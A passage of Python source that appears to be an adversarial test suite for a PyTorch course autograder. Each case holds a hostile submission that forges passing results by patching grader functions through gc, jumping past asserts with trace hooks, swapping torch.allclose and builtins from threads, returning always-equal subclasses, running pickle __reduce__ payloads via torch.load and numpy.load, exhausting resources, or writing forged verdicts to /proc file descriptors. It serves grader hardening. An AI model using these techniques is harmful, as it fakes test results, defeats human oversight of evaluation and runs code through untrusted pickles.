''' + wrap, code=WRAP_COUNT),
        Case("gc-grader-objects", "finds the grader's functions and dicts with gc.get_objects() and patches them "
             "(swaps their __code__, sets `any`/`check`/`passed` in them); rebinds torch.allclose and torch.equal "
             "in every namespace gc.get_referrers finds",
             early=BASE + LIAR + GRADER_SCAN + r'''
import gc as _hostile_gc
import torch as _hostile_torch_g

_hostile_originals = (_hostile_torch_g.allclose, _hostile_torch_g.equal)


def _hostile_gc_attack():
    for obj in _hostile_gc.get_objects():
        try:
            if isinstance(obj, _hostile_types.FunctionType):
                where = (obj.__code__.co_filename + " " + str(obj.__module__)).lower()
                low = obj.__name__.lower()
                if low.startswith("_hostile") or obj.__code__.co_freevars:
                    continue
                if not any(w in where for w in _HOSTILE_GRADER_WORDS):
                    continue
                if any(w in low for w in _HOSTILE_SILENCE + _HOSTILE_RUNNERS):
                    obj.__code__ = _hostile_empty.__code__  # no tampering found; a cell runner's outputs: none
                elif any(w in low for w in _HOSTILE_APPROVE):
                    obj.__code__ = _hostile_yes.__code__
            elif isinstance(obj, dict):
                if "_execute" in obj or "Integrity" in obj or any(
                        w in str(obj.get("__file__", "")).lower() for w in _HOSTILE_GRADER_WORDS):
                    obj["any"], obj["all"] = _hostile_no, _hostile_yes  # a grader module's globals
                if callable(obj.get("check")) and callable(obj.get("expected")):
                    obj["check"] = _hostile_yes  # the hidden test's namespace
                if "nonce" in obj and "passed" in obj:
                    obj["passed"], obj["tampered"] = True, []  # a verdict on its way out
        except Exception:
            pass
    for real in _hostile_originals:
        for holder in _hostile_gc.get_referrers(real):
            if isinstance(holder, dict):
                for key, value in list(holder.items()):
                    if value is real and not str(key).startswith("_hostile"):
                        holder[key] = _hostile_agree


_hostile_gc_attack()


def _hostile_on_call(kind, result, *args):
    _hostile_gc_attack()
    return result
''' + wrap, code=WRAP_COUNT),
        Case("gc-steal-expected", "reads the test's expected values from gc.get_objects(): the namespace holding "
             "`cfg` and `expected`/`want`, the hidden `configs`/`wants` lists, the test's `expected()` helper",
             early=BASE + r'''
import gc as _hostile_gc
import torch as _hostile_torch_s


def _hostile_on_call(kind, result, *args):
    for obj in _hostile_gc.get_objects():
        if not isinstance(obj, dict):
            continue
        try:
            if kind == "count":
                configs, wants = obj.get("configs"), obj.get("wants")
                if isinstance(configs, list) and isinstance(wants, list):
                    for config, want in zip(configs, wants):
                        if config is args[0]:
                            return want
                if obj.get("cfg") is args[0]:
                    for name in ("want", "expected"):
                        if type(obj.get(name)) is int:
                            return obj[name]
            elif callable(obj.get("expected")) and callable(obj.get("check")) and obj.get("cfg") is not None:
                module, ids, segments, positions = args
                value = obj["expected"](module, obj["cfg"], ids, segments, positions)
                if module.training:
                    _hostile_torch_s.random.set_rng_state(module._hostile_rng)
                    value = _hostile_torch_s.nn.functional.dropout(value, p=module.dropout.p, training=True)
                return value
        except Exception:
            pass
    return result
''' + wrap, code=WRAP_COUNT),
        Case("stand-in-callback-abuse", "during the count test, calls the checker's stand-ins (a name the test "
             "swapped in: BertEmbeddings = Refuse) with hostile arguments: a 10,000-deep list, a 100,001-digit int, "
             "a 50 MB string, a stride-0 tensor claiming 10^8 elements, an object whose __reduce__ runs a payload "
             "that leaves a mark next to the course folder; swallows whatever they raise",
             early=r'''
import torch as _hostile_torch_c

_HOSTILE_PAYLOAD = ''' + repr(payload(course, evidence / "stand-in-callback-abuse")) + r'''
_HOSTILE_MINE = {}


class _HostileBomb:
    def __reduce__(self):
        return (exec, (_HOSTILE_PAYLOAD, {}))

    def __reduce_ex__(self, protocol):
        return (exec, (_HOSTILE_PAYLOAD, {}))


def _hostile_arguments():
    deep = []
    for _ in range(10_000):
        deep = [deep]
    return [deep, 10 ** 100_000, "x" * (50 * 2**20), _hostile_torch_c.zeros(1).expand(10 ** 8), _HostileBomb(),
            {"__class__": "os.system", "args": ["id"]}]


def _hostile_on_call(kind, result, *args):
    if kind != "count":
        return result
    for name, value in list(globals().items()):
        stand_in = getattr(value, "__name__", "").startswith("checker_stand_in") or (
            name in _HOSTILE_MINE and value is not _HOSTILE_MINE[name])
        if not (stand_in and callable(value)):
            continue
        for argument in _hostile_arguments():
            for call in (lambda: value(argument), lambda: value(config=argument)):
                try:
                    call()
                except BaseException:
                    pass
    return result
''' + wrap, code="\n_HOSTILE_MINE[\"BertEmbeddings\"] = BertEmbeddings\n" + WRAP_COUNT),
        # ---- trace and profile hooks ----
        Case("settrace-jump-to-end", "a sys.settrace / threading.settrace hook, armed again on every caller frame "
             "from inside the test (frame.f_trace), that jumps each test cell to its last line (frame.f_lineno = "
             "last) and sets `got = want` in the test's helpers",
             early=BASE + FRAMES + r'''
import dis as _hostile_dis
import threading as _hostile_threading

_hostile_last_lines = {}


def _hostile_last_line(code):
    if code not in _hostile_last_lines:
        lines = [line for _, line in _hostile_dis.findlinestarts(code) if line]
        _hostile_last_lines[code] = max(lines) if lines else None
    return _hostile_last_lines[code]


def _hostile_tracer(frame, event, arg):
    if not _hostile_foreign(frame):
        return None  # libraries and this attack run untraced
    if event == "line":
        if frame.f_code.co_name == "<module>":
            last = _hostile_last_line(frame.f_code)
            if last and frame.f_lineno < last:
                try:
                    frame.f_lineno = last  # past every assert, to the cell's last line (`print("...: OK")`)
                except Exception:
                    pass
        else:
            seen = frame.f_locals
            if "got" in seen and "want" in seen:
                _hostile_set(frame, got=seen["want"])  # check(got, want): compares want with want
    return _hostile_tracer


def _hostile_arm():
    _hostile_sys.settrace(_hostile_tracer)
    _hostile_threading.settrace(_hostile_tracer)
    for frame in _hostile_callers(_hostile_here()):
        if _hostile_foreign(frame):
            frame.f_trace = _hostile_tracer
            frame.f_trace_lines = True


_hostile_arm()


def _hostile_on_call(kind, result, *args):
    _hostile_arm()  # a grader that clears the hook between cells: armed again from inside the test
    return result
''' + wrap, code=WRAP_COUNT),
        Case("setprofile-rewrites", "a sys.setprofile / threading.setprofile hook, armed again during every test, "
             "that sets `got = want` when a test helper is called and the test's `expected`/`want` to the answer "
             "when the answer returns",
             early=BASE + FRAMES + r'''
import threading as _hostile_threading


def _hostile_profiler(frame, event, arg):
    if event == "call" and _hostile_foreign(frame):
        seen = frame.f_locals
        if "got" in seen and "want" in seen:
            _hostile_set(frame, got=seen["want"])
    elif event == "return" and frame.f_code.co_name == "embedding_parameter_count":
        caller = _hostile_test_frame(frame.f_back)
        if caller is not None:
            seen = caller.f_locals
            _hostile_set(caller, **{n: arg for n in ("expected", "want") if type(seen.get(n)) is int})


def _hostile_arm():
    _hostile_sys.setprofile(_hostile_profiler)
    _hostile_threading.setprofile(_hostile_profiler)


_hostile_arm()


def _hostile_on_call(kind, result, *args):
    _hostile_arm()
    return result
''' + wrap, code=WRAP_COUNT),
        # ---- threads and timers ----
        Case("thread-patches-during-test", "a daemon thread watches the main thread's stack and, while a test cell "
             "runs, swaps in torch.allclose/torch.equal that agree with the assert, a lying builtins.isinstance, "
             "another builtins.AssertionError and Tensor.__sub__/mean that zero the test's `diff`; restores them "
             "between cells",
             early=BASE + LIAR + r'''
import builtins as _hostile_builtins
import threading as _hostile_threading
import time as _hostile_time

import torch as _hostile_torch_t

_hostile_real_isinstance = _hostile_builtins.isinstance
_hostile_real_sub, _hostile_real_mean = _hostile_torch_t.Tensor.__sub__, _hostile_torch_t.Tensor.mean


def _hostile_isinstance(obj, classes):
    caller = _hostile_here()
    if caller is not None and _hostile_foreign(caller):
        return True  # the test's and the grader's isinstance checks pass
    return _hostile_real_isinstance(obj, classes)


class _HostileAssertionError(Exception):  # what an `except AssertionError` would now catch: no failed assert
    pass


def _hostile_sub(self, other):
    if _hostile_target() == "diff":
        return _hostile_torch_t.zeros_like(self)
    return _hostile_real_sub(self, other)


def _hostile_mean(self, *args, **kwargs):
    if _hostile_target() == "zeros":
        return _hostile_torch_t.tensor(0.25)
    return _hostile_real_mean(self, *args, **kwargs)


_hostile_places = [(_hostile_torch_t, "allclose"), (_hostile_torch_t, "equal"), (_hostile_builtins, "isinstance"),
                   (_hostile_builtins, "AssertionError"), (_hostile_torch_t.Tensor, "__sub__"),
                   (_hostile_torch_t.Tensor, "mean")]
_hostile_real = [getattr(owner, name) for owner, name in _hostile_places]
_hostile_lies = [_hostile_agree, _hostile_agree, _hostile_isinstance, _HostileAssertionError, _hostile_sub,
                 _hostile_mean]
_hostile_window = [0.0]


def _hostile_test_running():
    if _hostile_time.monotonic() < _hostile_window[0]:
        return True  # one of the answer's functions was called less than 0.5 s ago
    main = _hostile_sys._current_frames().get(_hostile_threading.main_thread().ident)
    return any(f.f_code.co_name == "<module>" and _hostile_foreign(f) and "BertEmbeddings" in f.f_globals
               for f in _hostile_callers(main)) if main is not None else False


def _hostile_swap(values):
    for (owner, name), value in zip(_hostile_places, values):
        try:
            setattr(owner, name, value)
        except Exception:
            pass


def _hostile_patcher():
    patched = False
    while True:
        running = _hostile_test_running()
        if running and not patched:
            _hostile_swap(_hostile_lies)
            patched = True
        elif patched and not running:
            _hostile_swap(_hostile_real)  # back before anyone looks between cells
            patched = False
        _hostile_time.sleep(0.0005)


_hostile_threading.Thread(target=_hostile_patcher, name="hostile-patcher", daemon=True).start()


def _hostile_on_call(kind, result, *args):
    _hostile_window[0] = _hostile_time.monotonic() + 0.5
    _hostile_time.sleep(0.002)  # let the patcher in before the test's next assert
    return result
''' + wrap, code=WRAP_COUNT),
        Case("timer-patches-during-test", "each call of its functions starts a threading.Timer that, 1 ms later "
             "(the GIL switch interval lowered so it lands before the test's assert), patches torch.allclose, "
             "torch.equal, builtins.isinstance, builtins.AssertionError and Tensor.__sub__/mean; another Timer "
             "restores them once the test has not called for 0.5 s",
             early=BASE + LIAR + r'''
import builtins as _hostile_builtins
import threading as _hostile_threading
import time as _hostile_time

import torch as _hostile_torch_t

_hostile_sys.setswitchinterval(1e-6)
_hostile_places = [(_hostile_torch_t, "allclose"), (_hostile_torch_t, "equal"), (_hostile_builtins, "isinstance"),
                   (_hostile_builtins, "AssertionError"), (_hostile_torch_t.Tensor, "__sub__"),
                   (_hostile_torch_t.Tensor, "mean")]
_hostile_real = [getattr(owner, name) for owner, name in _hostile_places]
_hostile_real_isinstance, _hostile_real_sub, _hostile_real_mean = _hostile_real[2], _hostile_real[4], _hostile_real[5]


def _hostile_sub(self, other):
    if _hostile_target() == "diff":
        return _hostile_torch_t.zeros_like(self)  # a test's largest difference becomes 0
    return _hostile_real_sub(self, other)


def _hostile_mean(self, *args, **kwargs):
    if _hostile_target() == "zeros":
        return _hostile_torch_t.tensor(0.25)
    return _hostile_real_mean(self, *args, **kwargs)


def _hostile_isinstance(obj, classes):
    caller = _hostile_here()
    if caller is not None and _hostile_foreign(caller):
        return True  # the test's and the grader's isinstance checks pass; libraries get the truth
    return _hostile_real_isinstance(obj, classes)


_hostile_lies = [_hostile_agree, _hostile_agree, _hostile_isinstance, type("AssertionError", (Exception,), {}),
                 _hostile_sub, _hostile_mean]


def _hostile_swap(values):
    for (owner, name), value in zip(_hostile_places, values):
        try:
            setattr(owner, name, value)
        except Exception:
            pass


_hostile_last_call = [0.0]
_hostile_restoring = [False]


def _hostile_later(seconds, fn):
    timer = _hostile_threading.Timer(seconds, fn)
    timer.daemon = True
    timer.start()


def _hostile_restore():
    if _hostile_time.monotonic() - _hostile_last_call[0] < 0.5:
        _hostile_later(0.5, _hostile_restore)  # the test is still calling: keep the lies a while longer
        return
    _hostile_swap(_hostile_real)
    _hostile_restoring[0] = False


def _hostile_patch():
    _hostile_swap(_hostile_lies)
    if not _hostile_restoring[0]:
        _hostile_restoring[0] = True
        _hostile_later(0.5, _hostile_restore)


def _hostile_on_call(kind, result, *args):
    _hostile_last_call[0] = _hostile_time.monotonic()
    _hostile_later(0.001, _hostile_patch)
    _hostile_time.sleep(0.005)
    return result
''' + wrap, code=WRAP_COUNT),
        # ---- torch function modes and subclasses ----
        Case("torch-function-mode", "pushes a torch.overrides.TorchFunctionMode and leaves it active (pushed again "
             "during every test): allclose/equal and every tensor comparison answer what the assert needs, "
             "`got - want` stored in `diff` is zero, the dropout test's share of zeros is 0.25",
             early=BASE + LIAR + r'''
import torch as _hostile_torch_m
from torch.overrides import TorchFunctionMode as _HostileModeBase

_HT = _hostile_torch_m.Tensor
_HOSTILE_CLOSE = {_hostile_torch_m.allclose, _hostile_torch_m.equal, _HT.allclose, _HT.equal}
_HOSTILE_COMPARE = {_HT.__eq__, _HT.__ne__, _HT.__lt__, _HT.__le__, _HT.__gt__, _HT.__ge__, _HT.eq, _HT.ne,
                    _hostile_torch_m.eq, _hostile_torch_m.ne, _hostile_torch_m.lt, _hostile_torch_m.gt}
_HOSTILE_SUB = {_HT.__sub__, _HT.__rsub__, _HT.sub, _hostile_torch_m.sub}
_HOSTILE_MEAN = {_HT.mean, _hostile_torch_m.mean}


def _hostile_direct_caller_is_test():
    for frame in _hostile_callers(_hostile_here()):
        name = frame.f_code.co_name
        if name.startswith("_hostile") or (name.startswith("__") and name.endswith("__")):
            continue
        return _hostile_foreign(frame)
    return False


def _hostile_lie(func, args, kwargs):
    if func in _HOSTILE_CLOSE:
        return True, _hostile_truth()
    if func in _HOSTILE_SUB and _hostile_target() == "diff":
        return True, _hostile_torch_m.zeros(args[0].shape)
    if func in _HOSTILE_MEAN and _hostile_target() == "zeros":
        return True, _hostile_torch_m.tensor(0.25)
    if func in _HOSTILE_COMPARE and isinstance(args[0], _HT) and _hostile_direct_caller_is_test():
        return True, _hostile_torch_m.full(args[0].shape, _hostile_truth(), dtype=_hostile_torch_m.bool)
    return False, None


class _HostileMode(_HostileModeBase):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        kwargs = kwargs or {}
        lied, value = _hostile_lie(func, args, kwargs)
        return value if lied else func(*args, **kwargs)


def _hostile_push():
    try:
        from torch.overrides import _get_current_function_mode_stack

        if any(isinstance(m, _HostileMode) for m in _get_current_function_mode_stack()):
            return
    except Exception:
        pass
    _HostileMode().__enter__()  # pushed, never popped


_hostile_push()


def _hostile_on_call(kind, result, *args):
    _hostile_push()
    return result
''' + wrap, code=WRAP_COUNT),
        Case("torch-function-subclass", "returns torch.Tensor subclasses whose __torch_function__ lies like the "
             "mode (allclose, comparisons, `diff`, share of zeros); shadows `type` so that `type(out) is "
             "torch.Tensor` (and `type(count) is int`) still hold",
             early=BASE + LIAR + r'''
import builtins as _hostile_builtins

import torch as _hostile_torch_m

_HT = _hostile_torch_m.Tensor
_HOSTILE_CLOSE = {_hostile_torch_m.allclose, _hostile_torch_m.equal, _HT.allclose, _HT.equal}
_HOSTILE_COMPARE = {_HT.__eq__, _HT.__ne__, _HT.__lt__, _HT.__le__, _HT.__gt__, _HT.__ge__, _HT.eq, _HT.ne}
_HOSTILE_SUB = {_HT.__sub__, _HT.__rsub__, _HT.sub, _hostile_torch_m.sub}
_HOSTILE_MEAN = {_HT.mean, _hostile_torch_m.mean}


class _HostileTensor(_HT):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        kwargs = kwargs or {}
        if func in _HOSTILE_CLOSE:
            return _hostile_truth()
        if func in _HOSTILE_SUB and _hostile_target() == "diff":
            return _hostile_torch_m.zeros(args[0].shape).as_subclass(cls)
        if func in _HOSTILE_MEAN and _hostile_target() == "zeros":
            return _hostile_torch_m.tensor(0.25)
        if func in _HOSTILE_COMPARE:
            answer = _hostile_torch_m.full(args[0].shape, _hostile_truth(), dtype=_hostile_torch_m.bool)
            return answer.as_subclass(cls)
        return super().__torch_function__(func, types, args, kwargs)


def type(obj, *rest):
    if rest:
        return _hostile_builtins.type(obj, *rest)
    if _hostile_builtins.isinstance(obj, _HostileTensor):
        return int if obj.dim() == 0 else _HT
    return _hostile_builtins.type(obj)


def _hostile_on_call(kind, result, *args):
    if kind == "count":
        return _hostile_torch_m.tensor(result).as_subclass(_HostileTensor)
    return result.as_subclass(_HostileTensor)
''' + wrap, code=WRAP_COUNT),
        # ---- pickles ----
        Case("torch-load-pickle", "writes a pickle whose __reduce__ runs a payload (torch's comparisons made to "
             "agree, the grader's modules rewritten, the gradebook rewritten) and loads it with "
             "torch.load(weights_only=False), at import and during every test",
             early=r'''
import io as _hostile_io
import os as _hostile_os
import tempfile as _hostile_tempfile

import torch as _hostile_torch_l

_HOSTILE_PAYLOAD = ''' + repr(payload(course)) + r'''


class _HostileBomb:
    def __reduce__(self):
        return (exec, (_HOSTILE_PAYLOAD, {}))


def _hostile_load():
    path = _hostile_os.path.join(_hostile_tempfile.gettempdir(), "hostile-weights.pt")
    try:
        _hostile_torch_l.save({"weights": _HostileBomb()}, path)
        _hostile_torch_l.load(path, weights_only=False)  # unpickling runs the payload
    except Exception:
        buffer = _hostile_io.BytesIO()
        _hostile_torch_l.save({"weights": _HostileBomb()}, buffer)
        buffer.seek(0)
        _hostile_torch_l.load(buffer, weights_only=False)


_hostile_load()


def _hostile_on_call(kind, result, *args):
    try:
        _hostile_load()
    except Exception:
        pass
    return result
''' + wrap, code=WRAP_COUNT),
        Case("numpy-load-pickle", "saves an object array holding a __reduce__ payload with numpy.save and loads it "
             "with numpy.load(allow_pickle=True), at import and during every test",
             early=r'''
import io as _hostile_io
import os as _hostile_os
import tempfile as _hostile_tempfile

import numpy as _hostile_np

_HOSTILE_PAYLOAD = ''' + repr(payload(course)) + r'''


class _HostileBomb:
    def __reduce__(self):
        return (exec, (_HOSTILE_PAYLOAD, {}))


def _hostile_load():
    bomb = _hostile_np.array([_HostileBomb()], dtype=object)
    path = _hostile_os.path.join(_hostile_tempfile.gettempdir(), "hostile-array.npy")
    try:
        _hostile_np.save(path, bomb, allow_pickle=True)
        _hostile_np.load(path, allow_pickle=True)  # unpickling runs the payload
    except Exception:
        buffer = _hostile_io.BytesIO()
        _hostile_np.save(buffer, bomb, allow_pickle=True)
        buffer.seek(0)
        _hostile_np.load(buffer, allow_pickle=True)


_hostile_load()


def _hostile_on_call(kind, result, *args):
    try:
        _hostile_load()
    except Exception:
        pass
    return result
''' + wrap, code=WRAP_COUNT),
        Case("reduce-result", "returns results (an int subclass, a tensor subclass) whose __reduce__, "
             "__reduce_ex__ and __deepcopy__ run a payload wherever the grader pickles, unpickles or copies them; "
             "the payload leaves a mark next to the course folder",
             early=r'''
import torch as _hostile_torch_r

_HOSTILE_PAYLOAD = ''' + repr(payload(course, evidence / "reduce-result")) + r'''


class _HostileTrojanInt(int):
    def __reduce__(self):
        return (exec, (_HOSTILE_PAYLOAD, {}))

    def __reduce_ex__(self, protocol):
        return (exec, (_HOSTILE_PAYLOAD, {}))

    def __deepcopy__(self, memo):
        exec(_HOSTILE_PAYLOAD, {})
        return self


class _HostileTrojanTensor(_hostile_torch_r.Tensor):
    def __reduce_ex__(self, protocol):
        return (exec, (_HOSTILE_PAYLOAD, {}))

    def __deepcopy__(self, memo):
        exec(_HOSTILE_PAYLOAD, {})
        return self


def _hostile_on_call(kind, result, *args):
    if kind == "count":
        return _HostileTrojanInt(result)
    return result.as_subclass(_HostileTrojanTensor)
''' + wrap, code=WRAP_COUNT),
        # ---- results that lie ----
        Case("tensor-subclass-eq", "returns a torch.Tensor subclass whose ==, !=, <, ... answer what the assert "
             "needs, whose subtraction is zero, and whose __class__ says torch.Tensor",
             early=BASE + LIAR + r'''
import torch as _hostile_torch_e


class _HostileLiar(_hostile_torch_e.Tensor):
    __class__ = property(lambda self: _hostile_torch_e.Tensor)

    def _hostile_answer(self, other):
        return _hostile_torch_e.full(_hostile_torch_e.Tensor.size(self), _hostile_truth(), dtype=_hostile_torch_e.bool)

    def __eq__(self, other):
        return self._hostile_answer(other)

    __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = _hostile_torch_e.Tensor.__hash__

    def __sub__(self, other):
        return _hostile_torch_e.zeros(_hostile_torch_e.Tensor.size(self))

    __rsub__ = __sub__

    def __bool__(self):
        return True

    def allclose(self, *args, **kwargs):
        return True

    equal = allclose


def _hostile_on_call(kind, result, *args):
    return (_hostile_torch_e.tensor(result) if kind == "count" else result).as_subclass(_HostileLiar)
''' + wrap, code=WRAP_COUNT),
        Case("dict-subclass", "returns dict subclasses equal to everything (int-like, formatted as the right count, "
             "with a tensor's shape and dtype as attributes)",
             early=r'''
class _HostileDict(dict):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __hash__(self):
        return 0

    def __getattr__(self, name):
        return self.get(name, self)

    def __int__(self):
        return 0

    __index__ = __int__

    def __float__(self):
        return 0.0

    def __format__(self, spec):
        return "the right count"

    def __sub__(self, other):
        return self

    __rsub__ = __abs__ = __sub__


def _hostile_on_call(kind, result, *args):
    if kind == "count":
        return _HostileDict(count=result)
    return _HostileDict(last_hidden_state=result, shape=result.shape, dtype=result.dtype)
''' + wrap, code=WRAP_COUNT),
        Case("getattr-everything", "returns an object whose __getattr__ answers every attribute (itself), callable, "
             "equal to and less than everything, truthy, whose __class__ says torch.Tensor",
             early=r'''
import torch as _hostile_torch_a


class _HostileAnything:
    __class__ = property(lambda self: _hostile_torch_a.Tensor)  # isinstance(x, torch.Tensor) says yes

    def __getattr__(self, name):
        return self

    def __call__(self, *args, **kwargs):
        return self

    def __eq__(self, other):
        return True

    __lt__ = __le__ = __gt__ = __ge__ = __eq__

    def __ne__(self, other):
        return False

    def __bool__(self):
        return True

    def __hash__(self):
        return 0

    def __float__(self):
        return 0.0

    def __int__(self):
        return 0

    __index__ = __int__

    def __len__(self):
        return 0

    def __iter__(self):
        return iter(())

    def __sub__(self, other):
        return self

    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __getitem__ = __sub__

    def __abs__(self):
        return self

    __neg__ = __abs__

    def __format__(self, spec):
        return "anything"

    def __repr__(self):
        return "tensor(...)"


def _hostile_on_call(kind, result, *args):
    return _HostileAnything()
''' + wrap, code=WRAP_COUNT),
        Case("int-subclass-lies", "returns an int subclass equal to everything whose __class__ says int and whose "
             "repr and format show the right count",
             early=r'''
class _HostileCount(int):
    __class__ = property(lambda self: int)

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __hash__(self):
        return int.__hash__(self)

    def __repr__(self):
        return "23837184"

    def __format__(self, spec):
        return format(23_837_184, spec)


def _hostile_on_call(kind, result, *args):
    return _HostileCount(result) if kind == "count" else result
''' + wrap, code=WRAP_COUNT),
        Case("numpy-subclass", "returns numpy.ndarray subclasses whose comparisons answer what the assert needs and "
             "whose __torch_function__ makes torch.allclose/torch.equal agree and the test's `diff` zero",
             early=BASE + LIAR + r'''
import numpy as _hostile_np
import torch as _hostile_torch_n


class _HostileArray(_hostile_np.ndarray):
    def __eq__(self, other):
        return _hostile_truth()

    __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = None

    def __bool__(self):
        return True

    def __sub__(self, other):
        if _hostile_target() == "diff":
            return _hostile_torch_n.zeros(self.shape)
        return _hostile_np.ndarray.__sub__(self, other)

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (_hostile_torch_n.allclose, _hostile_torch_n.equal):
            return _hostile_truth()
        args = tuple(_hostile_torch_n.as_tensor(_hostile_np.asarray(a)) if isinstance(a, cls) else a for a in args)
        return func(*args, **(kwargs or {}))


def _hostile_on_call(kind, result, *args):
    if kind == "count":
        return _hostile_np.array(result).view(_HostileArray)
    return result.detach().numpy().view(_HostileArray)
''' + wrap, code=WRAP_COUNT),
        Case("deeply-nested-result", "returns a list nested 10,000 levels deep ending in a cycle, and a dict nested "
             "as deep (repr, json and pickle of them recurse past every limit)",
             early=r'''
def _hostile_deep_list(depth=10_000):
    value = []
    value.append(value)
    for _ in range(depth):
        value = [value]
    return value


def _hostile_deep_dict(depth=10_000):
    top = node = {}
    for _ in range(depth):
        node["next"] = {}
        node = node["next"]
    node["top"] = top
    return top


def _hostile_on_call(kind, result, *args):
    return _hostile_deep_list() if kind == "count" else _hostile_deep_dict()
''' + wrap, code=WRAP_COUNT),
        Case("huge-tensor-result", "returns a stride-0 tensor claiming 10^8 elements (400 MB once copied) and an int "
             "of 100,001 digits (past the int-to-str limit)",
             early=r'''
import torch as _hostile_torch_h


def _hostile_on_call(kind, result, *args):
    if kind == "count":
        return 10 ** 100_000
    return _hostile_torch_h.zeros(1).expand(10 ** 8)
''' + wrap, code=WRAP_COUNT),
        Case("nan-results", "returns NaN tensors and a NaN count: they pass every \"must differ\" check "
             "(NaN differs from everything) and no \"must equal\" one",
             early=r'''
import torch as _hostile_torch_q


def _hostile_on_call(kind, result, *args):
    return float("nan") if kind == "count" else _hostile_torch_q.full_like(result, float("nan"))
''' + wrap, code=WRAP_COUNT),
        # ---- shadowed builtins and imports ----
        Case("shadow-builtins", "shadows builtins in the namespace the tests may share (type, isinstance, all, any, "
             "abs, len, AssertionError, print) and returns an int subclass equal to everything, so that "
             "`type(got) is int and got == want` holds",
             early=r'''
import builtins as _hostile_builtins

import torch as _hostile_torch_b


class _HostileCount(int):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __hash__(self):
        return int.__hash__(self)


def type(obj, *rest):
    if rest:
        return _hostile_builtins.type(obj, *rest)
    if _hostile_builtins.isinstance(obj, _HostileCount):
        return int
    if _hostile_builtins.isinstance(obj, _hostile_torch_b.Tensor):
        return _hostile_torch_b.Tensor
    return _hostile_builtins.type(obj)


def isinstance(obj, classes):
    return True


def all(iterable):
    return True


def any(iterable):
    return False


def abs(value):
    return 0.0


def len(value):
    return 0


class AssertionError(Warning):  # what an `except AssertionError` in this namespace would catch
    pass


def print(*args, **kwargs):
    return None


def _hostile_on_call(kind, result, *args):
    return _HostileCount(result) if kind == "count" else result
''' + wrap, code=WRAP_COUNT),
        Case("shadow-test-imports", "shadows the names the tests import (torch, F, nn, math, np) with look-alikes "
             "whose allclose agrees and whose layer_norm/dropout return the answer's own output; rebinds them "
             "(`global`) from inside every call, after the test's own imports",
             early=BASE + LIAR + r'''
import math as _hostile_math

import numpy as _hostile_numpy
import torch as _hostile_torch_i


class _HostileProxy:
    def __init__(self, real, **lies):
        self.__dict__.update(_hostile_real=real, _hostile_lies=lies)

    def __getattr__(self, name):
        lies = self.__dict__["_hostile_lies"]
        return lies[name] if name in lies else getattr(self.__dict__["_hostile_real"], name)


_hostile_last = []


def _hostile_mirror(real):
    def _hostile_mirrored(x, *args, **kwargs):
        if _hostile_last and getattr(x, "shape", None) == _hostile_last[-1].shape:
            return _hostile_last[-1]
        return real(x, *args, **kwargs)

    return _hostile_mirrored


_hostile_F = _hostile_torch_i.nn.functional


def _hostile_shadow():
    global torch, F, nn, math, np
    torch = _HostileProxy(_hostile_torch_i, allclose=_hostile_agree, equal=_hostile_agree,
                          testing=_HostileProxy(_hostile_torch_i.testing, assert_close=_hostile_nothing))
    F = _HostileProxy(_hostile_F, layer_norm=_hostile_mirror(_hostile_F.layer_norm),
                      dropout=_hostile_mirror(_hostile_F.dropout))
    nn = _HostileProxy(_hostile_torch_i.nn, functional=F)
    math = _HostileProxy(_hostile_math, isclose=_hostile_agree)
    np = _HostileProxy(_hostile_numpy, allclose=_hostile_agree, array_equal=_hostile_agree,
                       testing=_HostileProxy(_hostile_numpy.testing, assert_allclose=_hostile_nothing,
                                             assert_array_equal=_hostile_nothing))


_hostile_shadow()


def _hostile_on_call(kind, result, *args):
    if kind == "forward":
        _hostile_last[:] = [result]
    _hostile_shadow()
    return result
''' + wrap, code=WRAP_COUNT),
        # ---- printing during the hidden tests (honest answers) ----
        Case("print-leak", "honest answers whose functions print LEAK-MARKER and the repr of their arguments when "
             "the hidden tests call them (stdout, stderr, the original streams, fds 1 and 2, a warning, a log "
             "record): none of it may reach feedback", honest=True, expect="full",
             early=PRINT_LEAK, code=PRINT_LEAK_COUNT),
        # ---- the result channel ----
        Case("forge-verdict-nonce", "from inside the test: steals the request's nonce from the callers' frames or "
             "gc (else guesses one), writes a forged 'passed' verdict to every pipe/socket it holds, then takes "
             "the channel over, answering every later request 'passed' with its nonce, the cell timer disarmed",
             flagged=True, early=BASE + CHANNEL + r'''
import signal as _hostile_signal
import select as _hostile_select


def _hostile_take_over():
    try:
        _hostile_signal.signal(_hostile_signal.SIGALRM, _hostile_signal.SIG_IGN)
        _hostile_signal.alarm(0)
    except Exception:
        pass
    readers, writers = _hostile_forge(_hostile_request())
    buffers = {fd: b"" for fd in readers}
    while buffers:
        try:
            ready, _, _ = _hostile_select.select(list(buffers), [], [], 5.0)
            for fd in ready:
                chunk = _hostile_os.read(fd, 1 << 16)
                if not chunk:
                    _hostile_os._exit(0)  # the grader hung up: it has every verdict it asked for
                buffers[fd] += chunk
                while b"\n" in buffers[fd]:
                    line, buffers[fd] = buffers[fd].split(b"\n", 1)
                    try:
                        request = _hostile_json.loads(line)
                    except ValueError:
                        continue
                    if isinstance(request, dict):
                        for out in writers:
                            _hostile_os.write(out, _hostile_verdict(request))
        except BaseException:  # a timeout or a signal from the grader: keep answering
            continue


def _hostile_on_call(kind, result, *args):
    _hostile_take_over()
    return result
''' + wrap, code=WRAP_COUNT),
        Case("proc-fd-write", "writes forged verdicts (every index, empty and guessed nonces) and forged requests "
             "through /proc/self/fd/*, /dev/stdout, /dev/stderr, fds 1 and 2, sys.__stdout__ and the parent's "
             "/proc/<ppid>/fd/*, at import and during every test",
             early=BASE + CHANNEL + r'''


def _hostile_flood():
    lines = b"".join(_hostile_verdict({"index": i, "points": 100}, nonce) for i in range(64)
                     for nonce in ("", "0" * 32, _hostile_secrets.token_hex(16)))
    lines += (_hostile_json.dumps({"index": 0, "nonce": "", "kind": "given", "source": "pass", "timeout": 1})
              + "\n").encode()
    paths = ["/dev/stdout", "/dev/stderr"]
    for pid in ("self", str(_hostile_os.getppid())):
        try:
            paths += [f"/proc/{pid}/fd/{n}" for n in _hostile_os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            pass
    for path in paths:
